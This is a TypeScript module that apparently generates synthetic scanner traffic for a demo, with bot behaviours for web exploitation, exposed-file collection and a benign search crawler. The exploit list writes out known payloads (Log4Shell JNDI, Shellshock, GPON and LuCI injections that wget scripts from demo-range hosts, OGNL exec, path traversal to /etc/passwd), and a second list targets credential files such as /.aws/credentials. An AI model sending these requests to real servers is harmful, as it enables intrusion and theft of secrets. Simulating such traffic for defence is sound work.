import type { Behaviour } from '../behaviour.ts'
import type { RequestShape } from '../speak/http.ts'
import { visit } from '../speak/http.ts'
import { syn } from '../speak/syn.ts'
import { hostOf } from '../targets.ts'
import { knock, several } from './tcp.ts'

const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
] as const
const tools = [
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'curl/7.88.1',
  'Mozilla/5.0 zgrab/0.x',
] as const

type Attempt = Omit<RequestShape, 'host'>

/** Well-known exploit requests, as the public write-ups show them; payload hosts lie in the demo's own ranges. */
const exploits: readonly Attempt[] = [
  {
    uri: '/',
    headers: { 'X-Api-Version': '${jndi:ldap://198.18.0.7:1389/a}' },
    userAgent: '${jndi:ldap://198.18.0.7:1389/ua}',
  },
  { method: 'POST', uri: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', body: '<?=md5("phpunit")?>' },
  {
    method: 'POST',
    uri: '/GponForm/diag_Form?images/',
    body: 'XWebPageName=diag&diag_action=ping&dest_host=`wget+http://198.18.0.9/g.sh`',
  },
  { method: 'POST', uri: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', body: 'echo; id' },
  { uri: '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd' },
  {
    uri: '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://198.18.0.9/t.sh`)',
  },
  { uri: '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession' },
  {
    uri: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/',
  },
  {
    method: 'POST',
    uri: '/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    body: '<?php echo 1; ?>',
  },
  {
    uri: '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
  },
  {
    uri: '/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example',
  },
  { uri: '/cgi-bin/status', userAgent: '() { :; }; /bin/bash -c "wget http://198.18.0.9/s.sh"' },
]

const exposures = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/xmlrpc.php',
  '/phpinfo.php',
  '/server-status',
  '/actuator/env',
  '/config.json',
  '/.aws/credentials',
  '/backup.zip',
  '/solr/admin/info/system',
  '/manager/html',
  '/v2/_catalog',
] as const

/** Bots that try exploits one after the other. */
export const exploiter: Behaviour = {
  name: 'web-exploiter',
  networks: ['hosting-cheap', 'hosting-offshore', 'broadband-cn', 'vpn-tunnel', 'tor-exits', 'hosting-asia'],
  addresses: 460,
  ipv6: 0.05,
  activeDays: [1, 5],
  day: (actor, midnight, random) =>
    several(random, 2, 8, () => {
      const port = random.pick([80, 80, 8080, 8443, 7547])
      const attempt = random.pick(exploits)
      return knock(actor, midnight, random, {
        port,
        syn: syn.linux,
        turns: (destination) =>
          visit({ userAgent: random.pick(browsers), ...attempt, host: hostOf(destination, port) }),
      })
    }),
}

/** Collectors of forgotten files. */
export const collector: Behaviour = {
  name: 'exposure-collector',
  networks: ['hosting-cloud', 'hosting-canada', 'hosting-cheap', 'business-retail'],
  addresses: 360,
  ipv6: 0.08,
  activeDays: [1, 4],
  day: (actor, midnight, random) => {
    const userAgent = random.pick([...browsers, ...tools])
    return several(random, 3, 10, () =>
      knock(actor, midnight, random, {
        port: 80,
        syn: syn.linux,
        turns: (destination) =>
          visit({ uri: random.pick(exposures), userAgent, host: hostOf(destination, 80) }),
      }),
    )
  },
}

/** The invented search engine: named, documented, from its own network. */
export const searchbot: Behaviour = {
  name: 'searchbot',
  networks: ['searchbot'],
  addresses: 120,
  ipv6: 0.25,
  activeDays: [4, 20],
  day: (actor, midnight, random) =>
    several(random, 1, 4, () =>
      knock(actor, midnight, random, {
        port: 80,
        syn: syn.linux,
        turns: (destination) =>
          visit(
            {
              uri: random.pick(['/', '/robots.txt', '/sitemap.xml']),
              userAgent:
                'Mozilla/5.0 (compatible; ExampleSearchbot/2.1; +https://searchbot.example/bot.html)',
              host: hostOf(destination, 80),
            },
            '200 OK',
          ),
      }),
    ),
}
